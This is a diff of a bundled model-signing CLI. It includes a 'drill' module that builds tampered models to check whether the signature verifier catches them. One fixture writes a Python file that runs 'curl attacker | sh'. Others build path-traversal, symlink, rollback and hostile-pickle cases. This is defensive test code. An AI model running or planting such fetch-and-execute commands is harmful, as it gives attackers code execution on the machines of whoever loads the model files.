         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("changed-byte");
-          const f2 = path19.join(m2, SHARD_1);
+          const f2 = path21.join(m2, SHARD_1);
           const b2 = await readFile(f2);
           const i = b2.length >> 1;
           b2[i] = b2[i] ^ 1;
@@ -59793,7 +60062,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("injected-file");
-          await writeFile5(path19.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
+          await writeFile5(path21.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
           return { model: m2 };
         }
       },
@@ -59803,7 +60072,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("removed-shard");
-          await rm2(path19.join(m2, SHARD_2));
+          await rm2(path21.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -59813,9 +60082,9 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("renamed-file");
-          await rename3(path19.join(m2, SHARD_1), path19.join(m2, "tmp"));
-          await rename3(path19.join(m2, SHARD_2), path19.join(m2, SHARD_1));
-          await rename3(path19.join(m2, "tmp"), path19.join(m2, SHARD_2));
+          await rename3(path21.join(m2, SHARD_1), path21.join(m2, "tmp"));
+          await rename3(path21.join(m2, SHARD_2), path21.join(m2, SHARD_1));
+          await rename3(path21.join(m2, "tmp"), path21.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -59824,10 +60093,10 @@ var init_attacks = __esm({
         title: "another model's valid signature (same signer) put beside this model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const other = await writeModel(path19.join(ctx.tmp, "other-model"), 99);
+          const other = await writeModel(path21.join(ctx.tmp, "other-model"), 99);
           await signDrillModel(other, ctx.signer, { license: ctx.licenses.allowed });
           const m2 = await ctx.copyBase("swapped-signature");
-          await copyFile(path19.join(other, "model.sig"), path19.join(m2, "model.sig"));
+          await copyFile(path21.join(other, "model.sig"), path21.join(m2, "model.sig"));
           return { model: m2 };
         }
       },
@@ -59836,7 +60105,7 @@ var init_attacks = __esm({
         title: "the model re-signed by a key the set-up does not trust",
         needs: [],
         async build(ctx) {
-          const m2 = path19.join(ctx.tmp, "untrusted-key");
+          const m2 = path21.join(ctx.tmp, "untrusted-key");
           await writeModel(m2, 7);
           const kp = generateKeyPairSync2("ed25519");
           await signDrillModel(m2, { priv: kp.privateKey, pub: kp.publicKey });
@@ -59848,7 +60117,7 @@ var init_attacks = __esm({
         title: "the signature file removed",
         needs: [],
         async build(ctx) {
-          const m2 = path19.join(ctx.tmp, "missing-signature");
+          const m2 = path21.join(ctx.tmp, "missing-signature");
           await writeModel(m2, 8);
           return { model: m2 };
         }
@@ -59860,13 +60129,13 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = await ctx.copyBase("edited-payload");
           const evil = safetensorsShard("a.weight", filler(64 * 1024, 666));
-          await writeFile5(path19.join(m2, SHARD_1), evil);
+          await writeFile5(path21.join(m2, SHARD_1), evil);
           const { bundle, statement } = await readSigned(m2);
           const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
           r.digest = sha256(evil);
           statement.subject[0].digest.sha256 = rootDigest(statement.predicate.resources);
           bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
-          await writeFile5(path19.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
+          await writeFile5(path21.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
           return { model: m2 };
         }
       },
@@ -59876,7 +60145,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("two-manifests");
-          await writeFile5(path19.join(m2, "modeling_llama.py"), "import os\n");
+          await writeFile5(path21.join(m2, "modeling_llama.py"), "import os\n");
           const { statement } = await readSigned(m2);
           const evil = JSON.parse(JSON.stringify(statement));
           evil.predicate.resources.push({ name: "modeling_llama.py", algorithm: "sha256", digest: sha256("import os\n") });
@@ -59890,7 +60159,7 @@ var init_attacks = __esm({
         title: 'signed manifest names "../secret.bin", a file outside the model with the signed digest',
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path19.join(ctx.tmp, "secret.bin");
+          const outside = path21.join(ctx.tmp, "secret.bin");
           await writeFile5(outside, "outside the model\n");
           return { model: await signedWithExtraResource(ctx, "traversal", { name: "../secret.bin", digest: sha256("outside the model\n") }) };
         }
@@ -59900,7 +60169,7 @@ var init_attacks = __esm({
         title: "signed manifest names an absolute path outside the model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path19.join(ctx.tmp, "secret-abs.bin");
+          const outside = path21.join(ctx.tmp, "secret-abs.bin");
           await writeFile5(outside, "outside the model (absolute)\n");
           return { model: await signedWithExtraResource(ctx, "absolute-path", { name: outside, digest: sha256("outside the model (absolute)\n") }) };
         }
@@ -59911,10 +60180,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-out");
-          const outside = path19.join(ctx.tmp, "config-copy.json");
-          await copyFile(path19.join(m2, "config.json"), outside);
-          await rm2(path19.join(m2, "config.json"));
-          await symlink(outside, path19.join(m2, "config.json"));
+          const outside = path21.join(ctx.tmp, "config-copy.json");
+          await copyFile(path21.join(m2, "config.json"), outside);
+          await rm2(path21.join(m2, "config.json"));
+          await symlink(outside, path21.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -59924,10 +60193,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-in");
-          await mkdir4(path19.join(m2, ".git"));
-          await copyFile(path19.join(m2, "config.json"), path19.join(m2, ".git", "config.json"));
-          await rm2(path19.join(m2, "config.json"));
-          await symlink(path19.join(".git", "config.json"), path19.join(m2, "config.json"));
+          await mkdir4(path21.join(m2, ".git"));
+          await copyFile(path21.join(m2, "config.json"), path21.join(m2, ".git", "config.json"));
+          await rm2(path21.join(m2, "config.json"));
+          await symlink(path21.join(".git", "config.json"), path21.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -59937,7 +60206,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature", "fifo"],
         async build(ctx) {
           const m2 = await ctx.copyBase("fifo");
-          execFileSync("mkfifo", [path19.join(m2, "pipe.bin")]);
+          execFileSync("mkfifo", [path21.join(m2, "pipe.bin")]);
           return { model: m2 };
         }
       },
@@ -59947,7 +60216,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("appended-bytes");
-          await appendFile(path19.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
+          await appendFile(path21.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
           return { model: m2 };
         }
       },
@@ -59956,9 +60225,9 @@ var init_attacks = __esm({
         title: "an older signed version presented after a newer one was verified (version rollback)",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const stateFile = path19.join(ctx.tmp, "rollback-state.json");
+          const stateFile = path21.join(ctx.tmp, "rollback-state.json");
           const setup = { storeDir: await emptyStore(ctx, "rollback-store"), stateFile };
-          const newer = path19.join(ctx.tmp, "rollback-newer");
+          const newer = path21.join(ctx.tmp, "rollback-newer");
           await writeModel(newer, 21);
           await signDrillModel(newer, ctx.signer, { version: "2.0.0", license: ctx.licenses.allowed });
           const r = await ctx.verify(newer, setup);
@@ -59973,12 +60242,12 @@ var init_attacks = __esm({
         title: "a correctly signed fine-tune of a revoked base model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const parentBundle = await readFile(path19.join(ctx.base, "model.sig"));
+          const parentBundle = await readFile(path21.join(ctx.base, "model.sig"));
           const { statement } = await readSigned(ctx.base);
           const parentDigest = `sha256:${statement.subject[0].digest.sha256}`;
-          const storeDir = path19.join(ctx.tmp, "revoked-store");
+          const storeDir = path21.join(ctx.tmp, "revoked-store");
           await recordBundle(storeDir, { name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest }, parentBundle);
-          const m2 = path19.join(ctx.tmp, "revoked-ancestor");
+          const m2 = path21.join(ctx.tmp, "revoked-ancestor");
           await writeModel(m2, 31);
           const lineage = { parents: [{ name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest, bundleDigest: bundleDigestOf(parentBundle), relation: "finetune" }] };
           await signDrillModel(m2, ctx.signer, { name: "drill-finetune", license: ctx.licenses.allowed, extra: { lineage } });
@@ -59992,7 +60261,7 @@ var init_attacks = __esm({
         async build(ctx) {
           const lic = ctx.licenses.outside;
           if (lic === void 0) throw new AttackNotApplicable("the policy allows every license the drill tried (it has no license rule that refuses one)");
-          const m2 = path19.join(ctx.tmp, "license-outside-policy");
+          const m2 = path21.join(ctx.tmp, "license-outside-policy");
           await writeModel(m2, 41);
           await signDrillModel(m2, ctx.signer, { license: lic });
           return { model: m2 };
@@ -60004,9 +60273,9 @@ var init_attacks = __esm({
         // No feature need: a set-up without scanning (policy formats) accepts it, and that is MISSED.
         needs: ["trusted-signature"],
         async build(ctx) {
-          const m2 = path19.join(ctx.tmp, "hostile-pickle");
+          const m2 = path21.join(ctx.tmp, "hostile-pickle");
           await writeModel(m2, 51);
-          await writeFile5(path19.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
+          await writeFile5(path21.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
           await signDrillModel(m2, ctx.signer, { license: ctx.licenses.allowed });
           return { model: m2 };
         }
@@ -60018,13 +60287,13 @@ var init_attacks = __esm({
 // src/drill/run.ts
 import { cp, mkdir as mkdir5, mkdtemp as mkdtemp2, rm as rm3 } from "node:fs/promises";
 import os6 from "node:os";
-import path20 from "node:path";
+import path22 from "node:path";
 async function runDrill(opts) {
-  const tmp = await mkdtemp2(path20.join(os6.tmpdir(), "modelsign-drill-"));
+  const tmp = await mkdtemp2(path22.join(os6.tmpdir(), "modelsign-drill-"));
   try {
-    const base2 = path20.join(tmp, "base-model");
+    const base2 = path22.join(tmp, "base-model");
     await writeModel(base2, 1);
-    const store = path20.join(tmp, "lineage-store");
+    const store = path22.join(tmp, "lineage-store");
     await mkdir5(store);
     const defaultSetup = { storeDir: store };
     let baseline;
@@ -60048,7 +60317,7 @@ async function runDrill(opts) {
       ...opts.signer ? { signer: opts.signer } : {},
       base: base2,
       copyBase: async (name2) => {
-        const dest = path20.join(tmp, name2);
+        const dest = path22.join(tmp, name2);
         await cp(base2, dest, { recursive: true });
         return dest;
       },
@@ -60114,7 +60383,7 @@ var init_run = __esm({
 });
 
 // src/drill/verifier.ts
-import path21 from "node:path";
+import path23 from "node:path";
 async function pickLicenses(policy, purpose) {
   const rule = policy?.rules[purpose];
   if (!policy || policy.license === void 0 || !rule) return { allowed: DEFAULT_DRILL_LICENSE };
@@ -60143,7 +60412,7 @@ async function drillVerifier(cfg) {
   } else {
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
     const file = policy.file;
-    trust = await policyTrust2(policy.trust, (f2) => path21.relative(path21.dirname(file), f2));
+    trust = await policyTrust2(policy.trust, (f2) => path23.relative(path23.dirname(file), f2));
     trustDesc = `trust section of ${cfg.policy}`;
   }
   if (trust.length === 0) throw usage("MISSING_OPTION", `drill needs something to trust: the policy ${cfg.policy} trusts nobody, so give --key PUBLIC_KEY`);
@@ -62256,12 +62525,14 @@ async function prepareLineage(model, o) {
   const datasetsRaw = o.dataset ?? [];
   const storeDir = o.record === void 0 || o.record === false ? void 0 : o.record === true ? DEFAULT_STORE : o.record;
   if (parents.length === 0 && datasetsRaw.length === 0 && (o.relation ?? []).length === 0 && (o.parentKey ?? []).length === 0 && storeDir === void 0) {
-    return { extraMetadata: void 0, key: void 0, write: true, record: async () => void 0 };
+    return { extraMetadata: void 0, key: void 0, beforeWrite: void 0, record: async () => void 0 };
   }
-  const { parseDatasetFlag: parseDatasetFlag2, resolveRelations: resolveRelations2, loadParents: loadParents2, buildLineageMeta: buildLineageMeta2, recordBundle: recordBundle2 } = await Promise.resolve().then(() => (init_lineage(), lineage_exports));
+  const { parseDatasetFlag: parseDatasetFlag2, resolveRelations: resolveRelations2, loadParents: loadParents2, buildLineageMeta: buildLineageMeta2, recordBundle: recordBundle2, checkStoreDir: checkStoreDir2, createStoreDir: createStoreDir2, findRecordSlot: findRecordSlot2 } = await Promise.resolve().then(() => (init_lineage(), lineage_exports));
+  if (storeDir === "") throw usage("BAD_OPTION", "--record needs a directory (or no value for ./manifests)");
   const relations = resolveRelations2(o.relation ?? [], parents.length);
   const datasets = datasetsRaw.map(parseDatasetFlag2);
   if (parents.length === 0 && (o.parentKey ?? []).length > 0) throw usage("BAD_OPTION", "--parent-key needs --parent PARENT_SIG");
+  if (storeDir !== void 0) await checkStoreDir2(storeDir);
   let key;
   let loaded2 = [];
   if (parents.length > 0) {
@@ -62281,24 +62552,28 @@ async function prepareLineage(model, o) {
   const { defaultModelName: defaultModelName2 } = await Promise.resolve().then(() => (init_sign(), sign_exports));
   const childName = o.name ?? defaultModelName2(model);
   const meta = buildLineageMeta2({ parents: loaded2, relations, datasets, childName, childVersion: o.version ?? "" });
+  const childMeta = (r) => {
+    const m2 = r.statement.subject[0].annotations?.modelsign;
+    return { name: m2?.name ?? childName, version: m2?.version ?? o.version ?? "0.0.0", rootDigest: r.rootDigest };
+  };
   return {
     extraMetadata: meta ? { lineage: meta } : void 0,
     key,
-    write: loaded2.length === 0,
-    async record(r) {
-      if (loaded2.length > 0) {
-        const self = loaded2.find((p2) => p2.verified.rootDigest === `sha256:${r.rootDigest}`);
-        if (self) throw usage("LINEAGE_CYCLE", `--parent ${self.file} has the same root digest as the model (sha256:${r.rootDigest}): a model cannot be its own parent; nothing was written`);
-        const { writeAtomic: writeAtomic2 } = await Promise.resolve().then(() => (init_write_atomic(), write_atomic_exports));
-        await writeAtomic2(r.signaturePath, r.bundleText);
-      }
+    async beforeWrite(r) {
+      const self = loaded2.find((p2) => p2.verified.rootDigest === `sha256:${r.rootDigest}`);
+      if (self) throw usage("LINEAGE_CYCLE", `--parent ${self.file} has the same root digest as the model (sha256:${r.rootDigest}): a model cannot be its own parent; nothing was written`);
       if (storeDir === void 0) return;
-      const m2 = r.statement.subject[0].annotations?.modelsign;
+      await createStoreDir2(storeDir);
+      for (const p2 of loaded2) await findRecordSlot2(storeDir, p2.verified, p2.bytes);
+      await findRecordSlot2(storeDir, childMeta(r), Buffer.from(r.bundleText, "utf8"));
+    },
+    async record(r) {
+      if (storeDir === void 0) return;
       for (const p2 of loaded2) {
         const w3 = await recordBundle2(storeDir, p2.verified, p2.bytes);
         if (w3.added) info(`recorded parent ${p2.verified.name}@${p2.verified.version} in ${w3.file}`);
       }
-      const w2 = await recordBundle2(storeDir, { name: m2?.name ?? childName, version: m2?.version ?? o.version ?? "0.0.0", rootDigest: r.rootDigest }, Buffer.from(r.bundleText, "utf8"));
+      const w2 = await recordBundle2(storeDir, childMeta(r), Buffer.from(r.bundleText, "utf8"));
       info(`recorded ${w2.file}`);
     }
   };
@@ -62338,7 +62613,7 @@ async function signKeyless(model, o, lineage) {
     model,
     version: o.version,
     ...lineage?.extraMetadata ? { extraMetadata: lineage.extraMetadata } : {},
-    ...lineage ? { write: lineage.write } : {},
+    ...lineage?.beforeWrite ? { beforeWrite: lineage.beforeWrite } : {},
     signer: async (payload) => {
       const b2 = await signer(payload);
       identity = bundleIdentity2(b2);
@@ -62352,6 +62627,7 @@ async function signKeyless(model, o, lineage) {
   });
   engine.onDone();
   await lineage?.record(r);
+  if (r.files === 0) warn(`no files to sign in ${model}: the signature covers nothing`);
   const meta = r.statement.subject[0].annotations?.modelsign;
   if (o.json) {
     printJson({
@@ -62410,12 +62686,19 @@ Examples:
 
 Exit codes: 0 signed; 1 a --parent signature is not trusted or broken, or (--keyless) Fulcio,
 Rekor or the TSA failed; 2 usage error (bad flag, unreadable key, wrong passphrase, symlink or
-special file in the model, a parent with the same name and a version not lower than --version).`
+special file in the model, a parent with the same name and a version not lower than --version,
+a signature or store that cannot be written, a signature larger than verify reads, as with a
+tiny --shard-size). On exit 2 nothing was written.`
   ).action(
     run(async (model, o) => {
       if (o.keyless && o.key) throw usage("BAD_OPTION", "--keyless and --key exclude each other");
       if (!o.key && !o.keyless) throw usage("MISSING_OPTION", "sign needs --key PRIVATE_KEY (or --keyless)");
       if (!o.version) throw usage("MISSING_OPTION", "sign needs --version SEMVER (e.g. --version 1.0.0)");
+      if (o.license !== void 0) {
+        const { licenseProblem: licenseProblem2 } = await Promise.resolve().then(() => (init_licenses(), licenses_exports));
+        const problem = licenseProblem2(o.license);
+        if (problem) warn(problem);
+      }
       const lineage = await prepareLineage(model, o);
       if (o.keyless) {
         const { signKeyless: signKeyless2 } = await Promise.resolve().then(() => (init_sign_keyless(), sign_keyless_exports));
@@ -62427,7 +62710,7 @@ special file in the model, a parent with the same name and a version not lower t
         model,
         key: lineage.key ?? o.key,
         ...lineage.extraMetadata ? { extraMetadata: lineage.extraMetadata } : {},
-        write: lineage.write,
+        ...lineage.beforeWrite ? { beforeWrite: lineage.beforeWrite } : {},
         version: o.version,
         ...o.name ? { name: o.name } : {},
         ...o.license ? { license: o.license } : {},
@@ -62437,6 +62720,7 @@ special file in the model, a parent with the same name and a version not lower t
       });
       engine.onDone();
       await lineage.record(r);
+      if (r.files === 0) warn(`no files to sign in ${model}: the signature covers nothing`);
       const meta = r.statement.subject[0].annotations?.modelsign;
       if (o.json) {
         printJson({ signature: r.signaturePath, rootDigest: `sha256:${r.rootDigest}`, name: meta?.name, version: meta?.version, license: meta?.license, files: r.files, bytes: r.bytes });
@@ -62465,7 +62749,7 @@ init_errors();
 init_io();
 import { mkdtempSync, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
 import os7 from "node:os";
-import path22 from "node:path";
+import path24 from "node:path";
 
 // src/cli/report.ts
 init_one_line();
@@ -62508,7 +62792,7 @@ var keyPlugin = {
 // src/cli/verify-policy.ts
 init_esm();
 init_errors();
-import path11 from "node:path";
+import path13 from "node:path";
 var CLI_TRUST_FLAGS = ["key", "certificateChain", "identity", "identityRegexp", "identityRegExp", "certificateIdentity", "certificateIdentityRegexp"];
 var loaded = /* @__PURE__ */ new WeakMap();
 function cliTrustGiven(flags) {
@@ -62542,7 +62826,7 @@ Policy (exit 1 when it refuses the model: license, revoked, minimum version, for
     const policy = loaded.get(flags);
     if (!policy?.trust || cliTrustGiven(flags)) return [];
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
-    return policyTrust2(policy.trust, (f2) => path11.relative(path11.dirname(policy.file), f2));
+    return policyTrust2(policy.trust, (f2) => path13.relative(path13.dirname(policy.file), f2));
   },
   async stages(flags) {
     const policy = loaded.get(flags);
@@ -62704,6 +62988,7 @@ newline-separated) and the model as MODELSIGN_MODEL; the command line wins.
 // src/cli/verify-pod.ts
 init_esm();
 init_errors();
+init_errno();
 init_io();
 import { existsSync as existsSync3, writeFileSync } from "node:fs";
 var DEFAULT_TERMINATION_LOG = "/dev/termination-log";
@@ -62767,7 +63052,7 @@ function writeReason(flags, reason) {
   try {
     writeFileSync(file, reason);
   } catch (e) {
-    const msg = `cannot write termination log ${file}: ${e.code ?? String(e)}`;
+    const msg = `cannot write termination log ${file}: ${writeFailureWords(e, file)}`;
     warn(msg);
   }
 }
@@ -62802,28 +63087,28 @@ var podPlugin = {
 
 // src/cli/verify-audit.ts
 init_errors();
-import path15 from "node:path";
+import path17 from "node:path";
 function str2(v2) {
   return typeof v2 === "string" ? v2 : null;
 }
 function base(model, flags) {
   return {
     time: (/* @__PURE__ */ new Date()).toISOString(),
-    model: path15.resolve(model),
-    signature: str2(flags.signature) ? path15.resolve(flags.signature) : null,
+    model: path17.resolve(model),
+    signature: str2(flags.signature) ? path17.resolve(flags.signature) : null,
     rootDigest: null,
     name: null,
     version: null,
     signer: null,
     // Flags other plugins own; recorded when they are present.
-    policy: str2(flags.policy) ? path15.resolve(flags.policy) : null,
+    policy: str2(flags.policy) ? path17.resolve(flags.policy) : null,
     purpose: str2(flags.purpose)
   };
 }
 function decisionFromResult(flags, r) {
   return {
     ...base(r.model, flags),
-    signature: path15.resolve(r.signature),
+    signature: path17.resolve(r.signature),
     rootDigest: r.rootDigest ? `sha256:${r.rootDigest}` : null,
     name: r.metadata?.name ?? r.subjectName ?? null,
     version: r.metadata?.version ?? null,
@@ -63023,9 +63308,9 @@ function keyPaths(r, cleanup, secret) {
   const raw = r.input("key");
   if (!raw.includes("-----BEGIN")) return r.listInput("key");
   if (secret) r.mask(raw);
-  const dir = mkdtempSync(path22.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
+  const dir = mkdtempSync(path24.join(process.env.RUNNER_TEMP || os7.tmpdir(), "modelsign-key-"));
   cleanup.dirs.push(dir);
-  const file = path22.join(dir, secret ? "signing.key" : "trusted.pub");
+  const file = path24.join(dir, secret ? "signing.key" : "trusted.pub");
   writeFileSync2(file, raw.endsWith("\n") ? raw : `${raw}
 `, { mode: 384 });
   return [file];
